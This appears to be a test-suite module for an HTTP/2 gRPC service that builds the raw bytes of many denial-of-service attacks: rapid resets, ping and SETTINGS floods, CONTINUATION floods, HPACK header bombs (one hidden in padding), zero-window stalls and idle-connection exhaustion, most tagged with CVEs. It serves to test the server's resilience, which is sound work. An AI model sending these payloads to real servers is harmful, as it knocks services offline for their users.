"""What an attacker sends: each attack as the bytes of one connection after another."""

from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from itertools import count, repeat

from hyperframe.frame import SettingsFrame
from sidegate.v1 import verification_pb2 as v1

from tests.fakes import wire

BURST = 100  # frames that leave together
STREAMS = 128  # that the server allows one connection at a time
MIB = 1024 * 1024
WHOLE = ("END_HEADERS",)
CLIENT_HELLO = bytes.fromhex("1603010200010001fc0303")  # a TLS record of 512 bytes, of which these are the first eleven


@dataclass(frozen=True, slots=True)
class Attack:
    """One way to attack.

    Attributes:
        what: It sends.
        chunks: What to send on a connection, given a good token. At its end the connection stays open.
        connections: At the same time. One that the server closes is made anew.
        reads: Whether it takes in what the server says.
        speaks_tls: Where TLS is spoken; else it talks to the TCP port itself.
        megabytes: That it may cost the server at its peak.
    """

    what: str
    chunks: Callable[[str], Iterator[bytes]]
    connections: int = 4
    reads: bool = True
    speaks_tls: bool = True
    megabytes: int = 100


def rapid_resets(_: str) -> Iterator[bytes]:
    block, asked = wire.header_block(), wire.message(b"")  # more would have to keep to the windows of RFC 9113 §5.2
    yield wire.hello()
    for streams in _bursts():
        yield b"".join(
            wire.headers(stream, block, *WHOLE) + wire.data(stream, asked, "END_STREAM") + wire.reset(stream)
            for stream in streams
        )


def resets_by_the_server(_: str) -> Iterator[bytes]:
    block, asked = wire.header_block(), wire.message(b"")
    yield wire.hello()
    for streams in _bursts():
        yield b"".join(
            wire.headers(stream, block, *WHOLE) + wire.data(stream, asked, "END_STREAM") + wire.window_update(stream, 0)
            for stream in streams
        )


def pings(_: str) -> Iterator[bytes]:
    yield wire.hello()
    yield from repeat(wire.ping() * BURST)


def empty_settings(_: str) -> Iterator[bytes]:
    yield wire.hello()
    yield from repeat(wire.settings() * BURST)


def large_metadata(_: str) -> Iterator[bytes]:
    block = wire.header_block(extra=[("x-long", "x" * MIB)])
    yield wire.hello()
    for stream in _streams():
        yield wire.split_headers(stream, block)


def headers_without_end(_: str) -> Iterator[bytes]:
    yield wire.hello()
    yield wire.headers(1, wire.header_block())
    field = b"\x10\x07x-flood\x04more"  # a literal that no table keeps, RFC 7541 §6.2.3
    yield from repeat(wire.continuation(1, field * 1000))


def empty_continuations(_: str) -> Iterator[bytes]:
    yield wire.hello()
    yield wire.headers(1, wire.header_block())
    yield from repeat(wire.continuation(1, b"") * BURST)


def header_bombs(_: str) -> Iterator[bytes]:
    # 4,000 bytes go into the table once (§6.2.1), and every further byte names them again (§6.1).
    bomb = b"\x40\x01x\x7f" + bytes([(4000 - 127) & 0x7F | 0x80, (4000 - 127) >> 7]) + b"x" * 4000 + b"\xbe" * 12_000
    yield wire.hello()
    yield wire.headers(1, wire.header_block() + bomb, *WHOLE)
    for stream in _streams(3):
        yield wire.headers(stream, wire.header_block() + b"\xbe" * 16_000, *WHOLE)


def hidden_headers(_: str) -> Iterator[bytes]:
    """As bombs; but who strips the padding finds a literal of 16,000 bytes in their place. grpc takes the padding for
    headers, and in it the beginning of a literal that swallows the beginning of that one.
    """
    bomb = b"\x40\x01x\x7f" + bytes([(4000 - 127) & 0x7F | 0x80, (4000 - 127) >> 7]) + b"x" * 4000
    long = 16_000 - 127
    decoy = b"\x10\x01x\x7f" + bytes([long & 0x7F | 0x80, long >> 7 & 0x7F | 0x80, long >> 14])
    padding = b"\x82" * 126 + b"\x10\x01y" + bytes([len(decoy)])
    yield wire.hello()
    yield wire.headers(1, wire.header_block() + bomb, *WHOLE)
    for stream in _streams(3):
        begun = b"\x82" + padding  # 130: as many bytes of padding, for some, and ":method: GET" for others
        yield wire.padded(wire.headers(stream, begun)) + wire.continuation(stream, decoy + b"\xbe" * 16_000, *WHOLE)


def answers_without_a_window(token: str) -> Iterator[bytes]:
    asked = wire.message(v1.VerifyRequest(access_token=token).SerializeToString())
    yield wire.hello({SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    for stream in _first(STREAMS):
        yield wire.headers(stream, wire.header_block(), *WHOLE) + wire.data(stream, asked, "END_STREAM")


def lengths_past_the_limit(_: str) -> Iterator[bytes]:
    yield wire.hello()
    for stream in _streams():
        body = wire.message(b"x" * 100, length=2**32 - 1)
        yield wire.headers(stream, wire.header_block(), *WHOLE) + wire.data(stream, body)


def unfinished_requests(_: str) -> Iterator[bytes]:
    yield wire.hello()
    for stream in _first(STREAMS):
        begun = wire.message(b"x" * 100, length=5 * MIB)
        yield wire.headers(stream, wire.header_block(), *WHOLE) + wire.data(stream, begun)


def nothing(_: str) -> Iterator[bytes]:
    yield from ()


def a_hello_alone(_: str) -> Iterator[bytes]:
    yield wire.hello()


def half_a_handshake(_: str) -> Iterator[bytes]:
    yield CLIENT_HELLO


def garbage(_: str) -> Iterator[bytes]:
    yield bytes(range(256)) * 256


# What grpc does with headers past its limits costs so much for each connection, whatever it is told: see
# docs/threat-model.md. So one connection is what these four are held to on the data plane, where grpc reads them.
# The last ones find 512 places at the TLS listener, each with Python's buffers of 256 KiB.
ATTACKS: Mapping[str, Attack] = {
    "rapid resets": Attack("HEADERS, DATA, RST_STREAM: CVE-2023-44487", rapid_resets),
    "resets by the server": Attack("what makes the server reset: CVE-2025-8671", resets_by_the_server),
    "pings": Attack("PING: CVE-2019-9512", pings),
    "settings, answers unread": Attack("empty SETTINGS: CVE-2019-9515", empty_settings, reads=False),
    "large metadata": Attack("1 MiB of metadata a call", large_metadata, connections=1, megabytes=500),
    "headers without end": Attack("CONTINUATION: CVE-2024-27316", headers_without_end, connections=1, megabytes=500),
    "empty continuations": Attack("CONTINUATION without a byte: CVE-2019-9518", empty_continuations),
    "header bombs": Attack("64 MB of headers in 16 KB: CVE-2016-6581", header_bombs, connections=1, megabytes=500),
    "hidden headers": Attack("bombs in what passes for padding", hidden_headers, connections=1, megabytes=500),
    "answers without a window": Attack("calls whose answers may not leave: CVE-2019-9517", answers_without_a_window),
    "lengths past the limit": Attack("messages of 4 GiB", lengths_past_the_limit),
    "unfinished requests": Attack("5 MiB announced, 100 bytes sent", unfinished_requests, connections=8),
    "garbage": Attack("64 KiB of what is no HTTP/2", garbage),
    "silent connections": Attack("nothing", nothing, connections=1000, speaks_tls=False, megabytes=250),
    "idle connections": Attack("a hello and nothing more", a_hello_alone, connections=1000),
    "half handshakes": Attack(
        "the beginning of TLS", half_a_handshake, connections=1000, speaks_tls=False, megabytes=250
    ),
}

COSTLY = ("large metadata", "headers without end", "header bombs", "hidden headers")
"""Those that are about headers past their limits."""


def _streams(first: int = 1) -> Iterator[int]:
    """The names of a client's streams [RFC 9113 §5.1.1]; the connection ends before they do."""
    return count(first, 2)


def _first(number: int) -> range:
    return range(1, 2 * number, 2)


def _bursts() -> Iterator[range]:
    return (range(first, first + 2 * BURST, 2) for first in count(1, 2 * BURST))
